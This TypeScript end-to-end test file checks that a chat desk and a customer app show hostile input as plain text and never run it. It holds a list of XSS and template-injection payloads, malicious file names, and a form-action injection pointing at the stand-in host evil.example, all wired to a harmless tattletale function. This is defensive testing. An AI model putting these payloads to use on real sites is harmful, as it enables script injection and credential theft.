import type { Locator } from "playwright-core";
import { expect, test } from "vitest";
import type { CustomerApp } from "./support/customer-app.js";
import type { Desk } from "./support/desk.js";
import { eventually } from "./support/eventually.js";
import { House, story } from "./support/house.js";
import { photo } from "./support/photo.js";
import type { WireCustomer } from "./support/wire-customer.js";

/**
 * Each would run somewhere if somebody put it there: as markup, as an attribute, as an address, as a template, as the
 * text of a script. `ran` is a function that every page has here (support/browser.ts), and it tells on whoever calls it.
 */
const PAYLOADS = [
  `<script>ran(1)</script>`,
  `<img src=x onerror=ran(2)>`,
  `"><svg onload=ran(3)>`,
  `' onmouseover='ran(4)' autofocus onfocus='ran(4)`,
  `javascript:ran(5)`,
  `<iframe srcdoc="<script>parent.ran(6)</script>"></iframe>`,
  `</textarea></title></style></script><script>ran(7)</script>`,
  `<a href="javascript:ran(8)">click</a>`,
  `{{constructor.constructor('ran(9)')()}}`,
  `\${ran(10)}`,
  `<math><mtext></mtext><style><img src=x onerror=ran(11)></style></math>`,
  `\\u003cscript\\u003eran(12)\\u003c/script\\u003e`,
  `&lt;img src=x onerror=ran(13)&gt;`,
  `<base href="https://evil.example/"><form action="https://evil.example/"><input name=password>`,
  `<style>@import 'https://evil.example/x.css';body{display:none}</style>`,
  `$t(errors.unknown_error) {{name, ran}} $t({"a":1})`,
] as const;

const name = {
  first: `<img src=x onerror=ran('first')>`,
  last: `{{name}} $t(errors.unknown_error) <svg/onload=ran('last')>`,
};
const FULL_NAME = `${name.first} ${name.last}`;

test("The watch notices what would run: markup with a handler, put into a page on purpose", async () => {
  const house = await House.open("light");
  try {
    const desk = await (await house.office()).seat(1);
    await desk.page.evaluate(() =>
      document.body.insertAdjacentHTML("beforeend", "<img src=x onerror=ran(0)>"),
    );
    await eventually("it is noted", () => {
      expect(house.troubles.list.join()).toMatch(/csp-violation script-src-attr|script-ran/);
    });
  } finally {
    await house.close();
  }
});

story("Nothing that a customer writes runs at a desk", "light", async (house) => {
  const office = await house.office();
  const desk = await office.seat(1);
  await desk.ready("agent1");
  const mallory = house.wireCustomer("<script>ran('client')</script>");
  await arrive(mallory);
  await lookAtOffer(desk);
  await desk.offerFrom(FULL_NAME).getByRole("button", { name: "Accept" }).click();
  await desk.composer(FULL_NAME).waitFor();
  await say(mallory);
  await lookAtConversation(desk, mallory);
  await lookAtContext(desk);
  await lookFromAbove(house);
  await finish(desk);
  await mallory.start({ first_name: "Again", incident: "again" });
  await mallory.say("again");
  await lookAtHistory(desk);
});

/** All that an app may send with a new chat. */
async function arrive(mallory: WireCustomer): Promise<void> {
  await mallory.start(
    {
      first_name: name.first,
      last_name: name.last,
      account: `<b onclick=ran('account')>LK</b>`,
      phone: `<i onclick=ran('phone')>1</i>`,
      latitude: "45.52014",
      longitude: "-122.6731",
      address: `<img src=x onerror=ran('address')>`,
      ...Object.fromEntries(PAYLOADS.map((payload, index) => [`value_${index}`, payload])),
      ...Object.fromEntries(PAYLOADS.map((payload, index) => [payload, `under a strange name ${index}`])),
    },
    { event: "chat_session_message", msg: "", msg_text: PAYLOADS[1] },
  );
}

async function lookAtOffer(desk: Desk): Promise<void> {
  const offer = desk.offerFrom(FULL_NAME);
  await offer.getByText(PAYLOADS[1]).waitFor();
  await offer.getByText(FULL_NAME, { exact: true }).waitFor();
  await desk.map.getByText(`<img src=x onerror=ran('address')>`).first().waitFor();
  await expectLiterally(desk.page.locator(".context"), [...PAYLOADS, `<b onclick=ran('account')>LK</b>`]);
}

/** Each event with words in it, each payload in each. */
async function say(mallory: WireCustomer): Promise<void> {
  for (const payload of PAYLOADS) {
    const id = () => crypto.randomUUID();
    const text = `text ${payload}`;
    await mallory.post(
      { event: "chat_session_typing", msg: payload },
      { event: "chat_session_message", msg_id: id(), msg: text, msg_text: text },
      // The same as HTML: what is shown of it is what a reader of it would see, and no more.
      { event: "chat_session_message", msg_id: payload, msg: `<p>html ${payload}</p>`, msg_text: "" },
      {
        event: "chat_session_form_data",
        form_request_id: "1",
        form_name: `form ${payload}`,
        data: { [payload]: payload },
      },
      {
        event: "chat_session_navigation",
        msg_id: id(),
        title: `page ${payload}`,
        page: "javascript:ran('page')",
      },
      { event: "chat_session_navigation", msg_id: id(), title: "", page: payload },
      {
        event: "chat_session_secure_form_data",
        form_request_id: "2",
        form_name: `secure ${payload}`,
        data: { [payload]: payload },
      },
      {
        event: "chat_session_cobrowsing_started",
        provider_type: `provider ${payload}`,
        cobrowsing_url: `https://view.example/?${payload}`,
      },
      { event: "chat_session_cobrowsing_started", cobrowsing_url: "javascript:ran('cobrowsing')" },
    );
  }
  await mallory.post({
    event: "chat_session_location",
    msg_id: crypto.randomUUID(),
    latitude: "45.522",
    longitude: "-122.675",
    address: `moved ${PAYLOADS[2]}`,
    url: "javascript:ran('location')",
  });
  const { buffer } = photo("", [200, 30, 30]);
  const picture = await mallory.upload(
    `"><img src=x onerror=ran('picture')>.png`,
    new Uint8Array(buffer),
    "image/png",
  );
  const note = await mallory.upload(
    `<img src=x onerror=ran('file')>.txt`,
    // Further down than anybody looks who finds out what kind of file it is.
    new TextEncoder().encode(
      `${"Plain words. ".repeat(1_000)}<script>parent.ran('text');ran('text')</script>`,
    ),
    "text/html",
  );
  for (const file_id of [picture, note]) {
    await mallory.post({
      event: "chat_session_file",
      msg_id: crypto.randomUUID(),
      file_id,
      file_type: "image",
      file_name: PAYLOADS[1],
    });
  }
  const drawing = new TextEncoder().encode(
    `<svg xmlns="http://www.w3.org/2000/svg" onload="ran('inside')"/>`,
  );
  await expect(
    mallory.upload("drawing.svg", drawing, "image/svg+xml"),
    "a drawing is refused",
  ).rejects.toThrow();
  const html = new TextEncoder().encode("<!doctype html><script>ran('html')</script>");
  await expect(mallory.upload("page.html", html, "text/html"), "a page is refused").rejects.toThrow();
}

async function lookAtConversation(desk: Desk, mallory: WireCustomer): Promise<void> {
  const log = desk.log(FULL_NAME);
  await log
    .getByText(/onerror=ran\('file'\)/)
    .first()
    .waitFor();
  const words = await wholeText(log);
  for (const payload of PAYLOADS) {
    expect(words).toContain(`text ${payload}`);
    expect(words).toContain(`page ${payload}`);
    expect(words).toContain(`secure ${payload}`);
    expect(words).toContain(`provider ${payload}`);
    expect(words).toContain(`form ${payload}`);
  }
  expect(words).toContain(`moved ${PAYLOADS[2]}`);
  await mallory.post({ event: "chat_session_typing", msg: `preview ${PAYLOADS[1]}` });
  await desk.page.getByText(`preview ${PAYLOADS[1]}`, { exact: true }).waitFor();
  await desk
    .log(FULL_NAME)
    .getByRole("button", { name: /ran\('picture'\)/ })
    .click();
  await desk.page.getByRole("dialog", { name: /ran\('picture'\)/ }).waitFor();
  await desk.page.keyboard.press("Escape");
  const links = await log
    .locator("a")
    .evaluateAll((all) => all.map((link) => link.getAttribute("href") ?? ""));
  for (const link of links) expect(link).toMatch(/^(\/api\/files\/|https:\/\/view\.example\/)/);
  await openTheFile(desk);
}

/** Asked for as a page of its own, a customer's file is saved or shown as text; it never runs in our origin. */
async function openTheFile({ page }: Desk): Promise<void> {
  const link = page.locator("a[download]").last();
  const href = (await link.getAttribute("href")) ?? "";
  const headers = await page.evaluate(async (url) => {
    const answer = await fetch(url);
    return { type: answer.headers.get("content-type"), as: answer.headers.get("content-disposition") };
  }, href);
  expect(headers.type).toBe("text/plain; charset=utf-8");
  expect(headers.as).toMatch(/^attachment/);
}

async function lookAtContext(desk: Desk): Promise<void> {
  await expectLiterally(desk.page.locator(".context"), PAYLOADS);
  await desk.map.getByText(`moved ${PAYLOADS[2]}`).first().waitFor();
}

async function lookFromAbove(house: House): Promise<void> {
  const anna = await (await house.office()).seat(1);
  await anna.signIn("supervisor1");
  await anna.button("Supervise").click();
  await anna.page
    .getByRole("row", { name: /Sofia Lindqvist/ })
    .getByText("1 of 5")
    .waitFor();
}

async function finish(desk: Desk): Promise<void> {
  await desk.button("End chat").click();
  await desk.state("After-call work").waitFor();
  const { context } = desk;
  await context.getByRole("combobox", { name: /^Result/ }).selectOption("Spam");
  await context.getByRole("textbox", { name: "Notes" }).fill(`note ${PAYLOADS[0]}`);
  await context.getByRole("button", { name: "Complete" }).click();
  await desk.state("Ready").waitFor();
}

async function lookAtHistory(desk: Desk): Promise<void> {
  await desk.offerFrom(FULL_NAME).waitFor();
  await desk.tab("History").click();
  const entry = desk.context.getByRole("article").filter({ hasText: `note ${PAYLOADS[0]}` });
  await entry.getByRole("button").click();
  const told = entry.getByRole("list", { name: /^Conversation of / });
  await told.waitFor();
  await expectLiterally(
    told,
    PAYLOADS.flatMap((payload) => [`text ${payload}`, `page ${payload}`, `form ${payload}`]),
  );
}

/** The texts stand there letter by letter, as they were written. */
async function expectLiterally(place: Locator, texts: readonly string[]): Promise<void> {
  await eventually("the texts are shown as they were written", async () => {
    const words = await place.innerText();
    for (const text of texts) expect(words).toContain(text);
  });
}

/** A long timeline draws only what is in view: this reads it from the first line to the last. */
async function wholeText(log: Locator): Promise<string> {
  return log.evaluate(async (element) => {
    const texts = new Set<string>();
    const drawn = (): Promise<void> =>
      new Promise((resolve) => requestAnimationFrame(() => requestAnimationFrame(() => resolve())));
    for (let top = 0; ; top += element.clientHeight / 2) {
      element.scrollTop = top;
      await drawn();
      for (const line of element.querySelectorAll<HTMLElement>("[data-index]")) texts.add(line.innerText);
      if (top >= element.scrollHeight) return [...texts].join("\n");
    }
  });
}

story(
  "Nothing that an agent writes runs in the app, nor what its own customer typed",
  "dark",
  async (house) => {
    const desk = await (await house.office()).seat(1);
    await desk.ready("agent1");
    const app = await house.phone();
    await becomeMallory(app);
    await reportWithPayloads(app);
    await desk.offerFrom(FULL_NAME).getByRole("button", { name: "Accept" }).click();
    await desk.heard(FULL_NAME, PAYLOADS[6]);
    await expectLiterally(desk.page.locator(".context"), [PAYLOADS[0], PAYLOADS[2], PAYLOADS[3]]);
    await app.heading("Sofia").waitFor();
    for (const payload of PAYLOADS) await desk.say(FULL_NAME, payload);
    await desk.page
      .locator("input[type=file]")
      .setInputFiles(photo(`<img src=x onerror=ran('theirs')>.png`, [9, 90, 9]));
    await app.button(`Open photo: <img src=x onerror=ran('theirs')>.png`).click();
    await app.page.getByRole("dialog", { name: `Photo: <img src=x onerror=ran('theirs')>.png` }).waitFor();
    await app.button("Close photo").click();
    await expectLiterally(app.log, PAYLOADS);
    await app.button("More").click();
    await app.button(/^End chat/).click();
    await app.page
      .getByRole("dialog", { name: "End this chat?" })
      .getByRole("button", { name: "End chat" })
      .click();
    await app.heading("This chat has ended").waitFor();
    await expectLiterally(app.log, [PAYLOADS[2]]);
  },
);

async function becomeMallory(app: CustomerApp): Promise<void> {
  await app.page.getByRole("button", { name: /^Change your details/ }).click();
  const sheet = app.page.getByRole("dialog", { name: "Your details" });
  await sheet.getByRole("textbox", { name: "First name" }).fill(name.first);
  await sheet.getByRole("textbox", { name: "Last name" }).fill(name.last);
  await sheet.getByRole("textbox", { name: "Phone" }).fill(PAYLOADS[4]);
  await sheet.getByRole("textbox", { name: "Policy number" }).fill(PAYLOADS[0]);
  await sheet.getByRole("textbox", { name: "Vehicle" }).fill(PAYLOADS[3]);
  await sheet.getByRole("button", { name: "Save" }).click();
  await app.heading(`Hello, ${name.first}`).waitFor();
}

async function reportWithPayloads(app: CustomerApp): Promise<void> {
  const { page } = app;
  await app.button("Report an accident").click();
  await app.button("Use my position").click();
  await page.getByText("45.52014, -122.67310").waitFor();
  await page.getByRole("textbox", { name: "Street or landmark" }).fill(PAYLOADS[2]);
  await app.button("Next: what happened").click();
  await page.getByRole("textbox", { name: "In your own words" }).fill(PAYLOADS[6]);
  await app.button("Next: photos").click();
  await page.getByTestId("files").setInputFiles(photo(`"><img src=x onerror=ran('mine')>.png`, [90, 9, 9]));
  await app.button("Send report with 1 photo").click();
  await app.heading("Finding you an adviser").waitFor();
}
